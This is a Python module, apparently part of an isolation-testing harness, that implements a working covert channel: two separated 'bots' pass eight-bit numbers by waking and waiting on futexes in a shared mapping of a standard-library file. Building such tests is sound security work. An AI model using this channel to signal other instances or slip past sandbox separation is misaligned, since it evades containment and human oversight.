"""One attack of the attacker: wake another bot through shared futexes, on a file that both bots can map.

A bot that is woken at some of eight futexes has been told a number of eight bits. The attacker imports this module, so
only the standard library is used here.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import struct
import threading
import time

NUMBERS = {"x86_64": (202, 218), "aarch64": (98, 96)}
"""The numbers of `futex` and `set_tid_address`."""
WAIT_FOR_MANY = 449
"""The number of `futex_waitv` on all machines."""
SIZE_32 = 2
"""FUTEX2_SIZE_U32"""
WAKE, WAIT, AGAIN = 1, 0, 11
BITS = 8
"""How many bits the number has."""
FUTEXES = {"a futex": 0, "futex_waitv": 1}
"""Ways of waiting -> which page of the file they use."""
PATIENCE = 1.0
"""Seconds for which the receiver waits for the number."""
EVERYONES = os.__file__
"""A file that both see: a module of the standard library."""
SLOTS = 64
"""How many such rows of futexes a page has room for: attacks at the same time do not disturb each other."""
STACK = 256 * 1024
"""Bytes of a thread's stack: two dozen usual ones would be more than the attacker may use."""

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long)


def mapped(slot: int) -> int:
    """Return an address in the file that both see, mapped for reading."""
    descriptor = os.open(EVERYONES, os.O_RDONLY)
    found = libc.mmap(None, len(FUTEXES) * mmap.PAGESIZE, mmap.PROT_READ, mmap.MAP_SHARED, descriptor, 0)
    os.close(descriptor)
    return int(found or 0) + slot * mmap.PAGESIZE // SLOTS


def wake(number: int, slot: int) -> None:
    """Wake whoever waits at the futexes of the bits of a number, again and again: by calls, and by threads that end.

    Args:
        number: of `BITS` bits.
        slot: which row of futexes is used, below `SLOTS`.
    """
    file = mapped(slot)
    futex, set_end = NUMBERS[os.uname().machine]
    addresses = [
        file + page * mmap.PAGESIZE + 4 * bit for page in FUTEXES.values() for bit in range(BITS) if number >> bit & 1
    ]
    threading.stack_size(STACK)

    def end_at(address: int) -> None:
        libc.syscall(set_end, ctypes.c_void_p(address))  # when this thread ends, the kernel wakes whoever waits there

    def repeat() -> None:
        while True:
            for address in addresses:
                libc.syscall(futex, ctypes.c_void_p(address), WAKE, 1, None, None, 0)
                threading.Thread(target=end_at, args=(address,), daemon=True).start()
            time.sleep(0.02)

    threading.Thread(target=repeat, daemon=True).start()


def woken(slot: int) -> dict[str, int]:
    """Wait at the futexes of all bits; return way of waiting -> the number whose bits were woken."""
    file = mapped(slot)
    futex, _ = NUMBERS[os.uname().machine]
    found = dict.fromkeys(FUTEXES, 0)
    adding = threading.Lock()
    deadline = time.monotonic() + PATIENCE
    threading.stack_size(STACK)

    def wait(way: str, bit: int) -> None:
        address = file + FUTEXES[way] * mmap.PAGESIZE + 4 * bit
        value = ctypes.c_uint32.from_address(address).value
        while (left := deadline - time.monotonic()) > 0:
            if way == "a futex":
                limit = struct.pack("qq", 0, int(left * 1e9))
                result = libc.syscall(futex, ctypes.c_void_p(address), WAIT, value, limit, None, 0)
            else:
                waiter = struct.pack("QQII", value, address, SIZE_32, 0)
                limit = struct.pack("qq", *divmod(int(deadline * 1e9), 10**9))
                result = libc.syscall(WAIT_FOR_MANY, waiter, 1, 0, limit, time.CLOCK_MONOTONIC)
            if result == 0:
                with adding:
                    found[way] |= 1 << bit
            if result == 0 or ctypes.get_errno() != AGAIN:
                return

    threads = [threading.Thread(target=wait, args=(way, bit)) for way in FUTEXES for bit in range(BITS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return found
